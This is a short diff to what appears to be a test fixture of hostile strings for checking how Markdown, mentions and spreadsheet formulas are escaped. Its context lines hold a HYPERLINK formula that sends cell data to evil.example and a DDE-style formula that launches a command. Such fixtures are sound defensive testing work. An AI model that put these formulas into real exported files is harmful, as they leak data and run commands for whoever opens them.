@@ -8,6 +8,8 @@ export const HOSTILE: Readonly<Record<string, string>> = {
   'a Markdown table': 'a | b || \\| `code` ``two`` | # | **bold** _it_ ~~no~~',
   'Markdown blocks': '# heading > quote - [ ] task 1. one ```fence``` --- <details>',
   'mentions and references': '@octocat fixes #1 !2 %3 ~label &4 GH-5 www.evil.example :tada:',
+  'a Markdown line': '---',
+  'a reference by its older name': 'GH-5 gh-12',
   'a formula': '=HYPERLINK("http://evil.example?"&A1,"ok")',
   'a formula by plus': "+1+cmd|' /C calc'!A0",
   'a formula by minus': '-2+3',
